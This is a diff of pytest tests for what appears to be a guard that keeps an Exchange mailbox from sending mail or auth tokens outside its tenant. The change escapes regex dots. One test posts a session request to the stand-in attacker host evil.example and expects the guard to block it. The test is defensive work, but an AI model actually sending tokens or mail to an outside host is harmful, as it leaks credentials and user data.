@@ -80,7 +80,7 @@ def test_ones_own_is_ones_own(account: Any, twin: Twin) -> None:
 def test_mail_stays_inside(account: Any, twin: Twin, field: str) -> None:
     recipients = {"to_recipients": [TAG.address(twin.user)], field: ["boss@fabrikam.com"]}
     outside = exchangelib.Message(account=account, folder=account.sent, subject="Out", body="", **recipients)
-    with pytest.raises(NotAllowed, match="no mail is sent to boss@fabrikam.com"):
+    with pytest.raises(NotAllowed, match=r"no mail is sent to boss@fabrikam\.com"):
         outside.send_and_save()
     with pytest.raises(NotAllowed, match="no mail is sent to"):
         exchangelib.Message(account=account, folder=account.drafts, subject="Out", body="", **recipients).save()
@@ -100,7 +100,7 @@ def test_mime_outside(account: Any) -> None:
     whole = exchangelib.Message(
         account=account, folder=account.drafts, mime_content=message("Out", to="a@fabrikam.com")
     )
-    with pytest.raises(NotAllowed, match="no mail is sent to a@fabrikam.com"):
+    with pytest.raises(NotAllowed, match=r"no mail is sent to a@fabrikam\.com"):
         whole.save()
 
 
@@ -114,12 +114,12 @@ def test_a_folder_of_ones_own(account: Any, twin: Twin, folders: Folders) -> Non
     below.empty()
     below.delete()
     made.delete()
-    with pytest.raises(NotAllowed, match="m365_mailbox.add_folder"):
+    with pytest.raises(NotAllowed, match=r"m365_mailbox\.add_folder"):
         exchangelib.folders.Folder(parent=account.sent, name="Theirs").save()
 
 
 def test_no_token_goes_to_another_host(account: Any) -> None:
     session = account.protocol.get_session()
-    with pytest.raises(NotAllowed, match="no token is sent to evil.example"):
+    with pytest.raises(NotAllowed, match=r"no token is sent to evil\.example"):
         session.post("https://evil.example/EWS/Exchange.asmx", data=b"<x/>")
     account.protocol.release_session(session)
